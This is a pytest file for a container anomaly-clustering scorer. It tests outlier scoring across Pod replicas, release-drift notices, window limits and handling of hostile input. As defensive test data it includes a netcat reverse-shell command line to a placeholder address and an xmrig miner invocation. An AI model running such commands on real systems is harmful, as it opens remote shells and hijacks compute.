# SPDX-License-Identifier: Apache-2.0
"""One Pod of a hundred is an outlier; the same drift in all of them is one notice and no alert."""

import pytest
from scorer_making import anomaly

from habitus.anomalies import Anomaly
from habitus.engines import Context, EngineServices, Finding, Score, bounded, total
from habitus.languages import Bilingual
from habitus.plugins import PluginFault
from habitus_scorer.cluster import window as window_module
from habitus_scorer.cluster.window import Window, fitted
from habitus_scorer.engines.cluster import DRIFT, ClusterEngine


async def _nobody(subject: str, payload: bytes, timeout_s: float) -> bytes:
    raise TimeoutError


def engine(**settings) -> ClusterEngine:
    return ClusterEngine(EngineServices(settings=settings, max_points=20, request=_nobody))


def seen(number: int, argv: list[str], replicas: int = 100, seconds: float = 0, **parts) -> Anomaly:
    one = anomaly(
        argv,
        container={"id": f"{number:064d}"},
        anomaly_id=f"{number} {argv} {seconds}",
        seconds=seconds,
        **parts,
    )
    one.replicas = replicas
    return one


async def score(judge: ClusterEngine, one: Anomaly) -> Score:
    return await judge.score(one, Context())


async def test_one_pod_of_a_hundred_is_an_outlier():
    """It gets all points and says why; they alone raise no alert."""
    judge = engine()
    given = await score(judge, seen(7, ["/tmp/x", "-c"]))
    assert (given.points, given.findings[0].id) == (20, "cluster/outlier")
    assert "1 of 100 replicas" in given.note
    alone = {
        "profile": bounded(Score(points=5), 5),
        "rule": bounded(Score(), 40),
        "cluster": bounded(given, 20),
    }
    assert total(alone) < 40


async def test_the_same_drift_in_all_pods_is_one_notice_and_no_points():
    """Points fall as the change spreads; once it is everywhere there is one notice for the workload."""
    judge = engine()
    given = [await score(judge, seen(number, ["/app/new", f"--id={number}"])) for number in range(100)]
    points = [one.points for one in given]
    assert points[0] == 20
    assert points[-1] == 0
    assert points == sorted(points, reverse=True)
    found = [finding.id for one in given for finding in one.findings]
    assert found.count(DRIFT) == 1
    again = await score(judge, seen(3, ["/app/new", "--id=3"], seconds=60))
    assert (again.points, again.findings) == (0, [])


async def test_an_attack_on_every_replica_loses_no_points_and_is_no_release():
    """What a rule calls high is told as high on the last Pod as on the first."""
    judge = engine()
    miner = Finding(id="miner", title=Bilingual(en="m", zh="m"), level="high")
    ruled = {"profile": bounded(Score(points=5), 5), "rule": bounded(Score(points=32, findings=[miner]), 40)}
    totals = []
    for number in range(20):
        one = seen(number, ["/tmp/xmrig", "-o", "pool:3333"])
        given = await judge.score(one, Context(scores=ruled))
        totals.append(total({**ruled, "cluster": bounded(given, 20)}))
        assert all(finding.id != DRIFT for finding in given.findings)
    assert min(totals) >= 80
    assert given.abstained


async def test_an_attack_beside_a_release_stays_an_outlier():
    """What only one Pod does keeps its points while all of them drift."""
    judge = engine()
    for number in range(100):
        await score(judge, seen(number, ["/app/new", f"--id={number}"]))
    await judge.refit()
    given = await score(judge, seen(7, ["nc", "-e", "/bin/sh", "198.51.100.7"], path=["web", "x", "nc"]))
    assert given.points == 20


async def test_variants_of_one_change_are_one_cluster_after_a_fit():
    """Each Pod does it a little differently: alone each is rare, together they are the drift."""
    judge, words = engine(), ["alpha", "beta", "gamma", "delta", "eta", "theta", "iota", "kappa", "mu", "nu"]
    line = ["/app/run", "--region", "eu", "--config", "/etc/app.toml", "--verbose", "--workers", "four"]
    for number, word in enumerate(words):
        assert (await score(judge, seen(number, [*line, word], 10))).points > 15
    for number in range(40):  # others, of no kind
        judge.window.add(
            seen(number % 10, [f"p{number}", *(chr(97 + number % 26) * n for n in range(2, 6))], 10)
        )
    await judge.refit()
    labels = {judge.window.add(seen(number, [*line, word], 10)).label for number, word in enumerate(words)}
    assert len(labels) == 1
    assert labels != {-1}
    late = await score(judge, seen(9, [*line, "late"], 10))
    assert late.points == 0
    assert [finding.id for finding in late.findings] == [DRIFT]


async def test_too_few_replicas_abstain():
    """Two containers cannot be told apart from their like."""
    given = await score(engine(), seen(1, ["x"], replicas=2))
    assert given.abstained
    assert "too few" in given.note


async def test_the_window_passes():
    """What is older than the window no longer counts as spread, and a drift is told again."""
    judge = engine(window_s=60)
    for number in range(10):
        await score(judge, seen(number, ["/app/new"], 10))
    given = await score(judge, seen(3, ["/app/new"], 10, seconds=100))
    assert (len(judge.window), given.points) == (1, 20)


def test_the_window_is_bounded(monkeypatch):
    """The oldest leave at the limits of anomalies and patterns, and every index with them."""
    monkeypatch.setattr(window_module, "MOST", 50)
    monkeypatch.setattr(window_module, "PATTERNS", 20)
    held = Window(3600)
    for number in range(200):
        held.add(seen(number, ["".join(chr(97 + int(digit)) for digit in str(number))]))
    assert held.patterns == 20
    assert len(held) == 20
    assert held.seen("shop/webapp") == 20
    for number in range(200):
        held.add(seen(number % 5, ["same"]))
    assert (len(held), held.patterns, held.seen("shop/webapp")) == (50, 1, 5)
    held.take(fitted(held.to_fit()))
    assert len(held._spread) == 1


def test_hostile_text_becomes_a_vector():
    """Long, endless and broken text costs a bounded amount and raises nothing."""
    held = Window(3600)
    one = seen(1, ["\ud800" * 100_000, *["a"] * 100_000], path=["web", *["\0"] * 10_000])
    assert held.add(one).vector.shape == (256,)


def test_settings_that_do_not_exist_are_refused():
    """A key of its table that it does not know ends the start."""
    with pytest.raises((PluginFault, ValueError), match="colour"):
        engine(colour="red")
